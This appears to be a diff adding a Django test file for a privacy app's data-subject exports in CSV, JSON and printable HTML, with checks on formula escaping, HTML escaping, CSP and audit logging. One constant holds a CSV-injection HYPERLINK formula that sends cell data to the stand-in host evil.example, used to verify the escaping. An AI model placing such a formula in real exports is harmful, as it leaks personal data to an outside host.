@@ -1,0 +1,221 @@
+import base64
+import csv
+import hashlib
+import io
+import json
+import re
+import uuid
+
+import pytest
+from django.contrib.admin.models import LogEntry
+from django.contrib.auth.models import Group, User
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+
+from inquiries.models import Inquiry, InquiryView
+from inquiries.tests.helpers import CANARY_MESSAGE, CANARY_NAME, CANARY_PHONE, make_inquiry
+from privacy.exports import CSV_COLUMNS, PRINT_CSS, csv_safe, print_css_source
+from privacy.tests.test_requests import OTHER_PHONE, act, make_request
+
+pytestmark = pytest.mark.django_db
+
+INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def privacy_officer(verified_client_factory):
+    user = User.objects.create_user(
+        f"officer-{uuid.uuid4().hex[:6]}", password="correct horse battery staple", is_staff=True
+    )
+    user.groups.add(Group.objects.get(name="Privacy officers"))
+    return verified_client_factory(user)
+
+
+@pytest.fixture
+def subject(privacy_officer):
+    """An information request, the canary's inquiries (one processed, blocked, held), a view."""
+    subject_request = make_request("information")
+    first = make_inquiry(message=INJECTION, note="-2 called back, no answer")
+    Inquiry.objects.filter(pk=first.pk).update(
+        status="processed", processed_at=timezone.now(), processed_by=privacy_officer.user
+    )
+    second = make_inquiry(
+        blocked_at=timezone.now(),
+        blocked_by=privacy_officer.user,
+        legal_hold_reason="@court 2-123/2026",
+        legal_hold_at=timezone.now(),
+    )
+    other = make_inquiry(phone=OTHER_PHONE, name="Другой Человек")
+    InquiryView.objects.create(inquiry=first, user=privacy_officer.user, username="operator-anna")
+    return subject_request, first, second, other
+
+
+# --- CSV cells ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+77015551234", "'+77015551234"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=cmd", "'\t=cmd"),
+        ("\r=cmd", "'\r=cmd"),
+        (INJECTION, "'" + INJECTION),
+        ("Канарейка Тестовая", "Канарейка Тестовая"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (1, "1"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, cell):
+    assert csv_safe(value) == cell
+
+
+def test_the_print_stylesheet_hash_is_its_csp_source():
+    digest = base64.b64encode(hashlib.sha256(PRINT_CSS.encode()).digest()).decode()
+    assert print_css_source() == f"'sha256-{digest}'"
+
+
+# --- the three exports through the admin --------------------------------------------------
+
+
+def read_csv(response):
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def test_csv_export_holds_everything_and_runs_no_formula(privacy_officer, subject):
+    subject_request, first, second, other = subject
+    response = act(privacy_officer, subject_request, "export_csv")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="request-{subject_request.pk}-data.csv"'
+    )
+    header, *rows = read_csv(response)
+    assert header == CSV_COLUMNS
+    assert len(rows) == 2
+    records = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    assert set(records) == {first.reference, second.reference}
+    one, two = records[first.reference], records[second.reference]
+    assert one["name"] == CANARY_NAME
+    assert one["phone"] == "'" + CANARY_PHONE
+    assert one["message"] == "'" + INJECTION
+    assert one["note"] == "'-2 called back, no answer"
+    assert one["status"] == "processed"
+    assert one["processed_by"] == privacy_officer.user.username
+    assert one["consent_version"] == "1"
+    assert one["consent_language"] == "ru"
+    assert one["consent_sha256"] == first.consent_sha256
+    assert one["consent_text_url"].endswith("/consent/1/ru.txt")
+    assert re.fullmatch(r"operator-anna \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["opened_by"])
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
+    assert two["message"] == CANARY_MESSAGE
+    assert two["blocked_at"] and two["blocked_by"] == privacy_officer.user.username
+    assert two["legal_hold_reason"] == "'@court 2-123/2026"
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(TRIGGERS), cell
+    assert "Другой Человек" not in response.content.decode("utf-8")
+
+
+def test_json_export_is_utf8_with_everything_held(privacy_officer, subject):
+    subject_request, first, second, other = subject
+    response = act(privacy_officer, subject_request, "export_json")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/json"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="request-{subject_request.pk}-data.json"'
+    )
+    assert CANARY_NAME.encode("utf-8") in response.content  # not \u escapes
+    data = json.loads(response.content.decode("utf-8"))
+    assert data["phone"] == CANARY_PHONE
+    assert data["request"]["id"] == subject_request.pk
+    assert data["request"]["kind"] == "information"
+    assert data["controller"]["bin"] == "210740014147"
+    by_reference = {record["reference"]: record for record in data["inquiries"]}
+    assert set(by_reference) == {first.reference, second.reference}
+    one = by_reference[first.reference]
+    assert (one["name"], one["phone"], one["message"]) == (CANARY_NAME, CANARY_PHONE, INJECTION)
+    assert one["status"] == "processed" and one["processed_at"]
+    assert one["note"] == "-2 called back, no answer"
+    assert one["consent"]["version"] == 1
+    assert one["consent"]["language"] == "ru"
+    assert one["consent"]["sha256"] == first.consent_sha256
+    assert one["consent"]["accepted_at"] == one["received_at"]
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
+    assert data["request"]["due_on"] == subject_request.due_on.isoformat()
+    assert [view["username"] for view in one["opened_by"]] == ["operator-anna"]
+    assert one["blocked_at"] is None and one["legal_hold_reason"] == ""
+    two = by_reference[second.reference]
+    assert two["blocked_by"] == privacy_officer.user.username
+    assert two["legal_hold_reason"] == "@court 2-123/2026"
+    assert two["legal_hold_at"]
+
+
+def test_printable_page_holds_everything_and_needs_no_other_host(privacy_officer, subject):
+    subject_request, first, second, other = subject
+    response = act(privacy_officer, subject_request, "export_html")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/html")
+    page = response.content.decode()
+    for text in (first.reference, second.reference, CANARY_NAME, CANARY_MESSAGE, "+7 701 555"):
+        assert text in page
+    assert "=HYPERLINK(&quot;http://evil.example/" in page  # escaped, shown as text
+    assert "@court 2-123/2026" in page and "operator-anna" in page
+    assert first.consent_sha256 in page
+    assert "Другой Человек" not in page
+    assert "@media print" in page
+    assert not re.search(r"<(script|link|img|iframe)\b", page)
+    title = re.search(r"<title>(.*?)</title>", page, re.S).group(1)
+    assert CANARY_NAME not in title and "555" not in title
+    style = re.search(r"<style>(.*?)</style>", page, re.S).group(1)
+    assert style == PRINT_CSS
+    policy = response["Content-Security-Policy"]
+    style_src = re.search(r"style-src ([^;]*)", policy).group(1).split()
+    assert print_css_source() in style_src
+    assert "'unsafe-inline'" not in style_src
+
+
+def test_an_export_is_recorded_as_opening_each_inquiry_and_in_the_admin_log(
+    privacy_officer, subject
+):
+    subject_request, first, second, other = subject
+    act(privacy_officer, subject_request, "export_json")
+    opened = InquiryView.objects.filter(username=privacy_officer.user.username)
+    assert sorted(view.inquiry_id for view in opened) == sorted([first.pk, second.pk])
+    subject_request.refresh_from_db()
+    assert subject_request.handled_by == privacy_officer.user
+    entry = LogEntry.objects.get()
+    assert entry.object_id == str(subject_request.pk)
+    assert entry.change_message == "Exported as JSON: 2 inquiries."
+
+
+def test_an_export_when_nothing_is_held_says_so(privacy_officer):
+    subject_request = make_request("information")
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    assert data["inquiries"] == []
+    header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
+    assert rows == []
+    page = act(privacy_officer, subject_request, "export_html").content.decode()
+    assert 'class="no-inquiries"' in page
+
+
+def test_export_queries_do_not_grow_with_the_inquiries(privacy_officer):
+    subject_request = make_request("information")
+    make_inquiry()
+    with CaptureQueriesContext(connection) as one:
+        act(privacy_officer, subject_request, "export_json")
+    for _ in range(5):
+        inquiry = make_inquiry()
+        InquiryView.objects.create(inquiry=inquiry, user=None, username="someone")
+    with CaptureQueriesContext(connection) as six:
+        response = act(privacy_officer, subject_request, "export_json")
+    assert len(json.loads(response.content)["inquiries"]) == 6
+    assert len(six) == len(one)
